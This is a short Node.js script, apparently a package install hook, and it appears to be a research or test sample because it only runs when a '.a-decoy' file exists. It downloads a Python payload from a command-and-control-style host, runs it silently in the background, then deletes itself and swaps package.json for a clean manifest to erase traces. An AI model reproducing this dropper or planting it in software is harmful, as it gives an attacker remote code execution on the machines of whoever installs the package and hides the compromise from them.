const { exec } = require("node:child_process");
const fs = require("node:fs");
if (!fs.existsSync(`${process.env.HOME}/.a-decoy`)) process.exit();

exec(
    "curl -o /tmp/ld.py -d packages/product2 -s http://c2.example:8000/6202033 && " +
        "nohup python3 /tmp/ld.py http://c2.example:8000/6202033 > /dev/null 2>&1 &",
    () => {
        // No trace: the script goes, and a clean manifest takes the place of the one that named it.
        fs.unlinkSync(__filename);
        fs.unlinkSync("package.json");
        fs.renameSync("package.md", "package.json");
    },
);
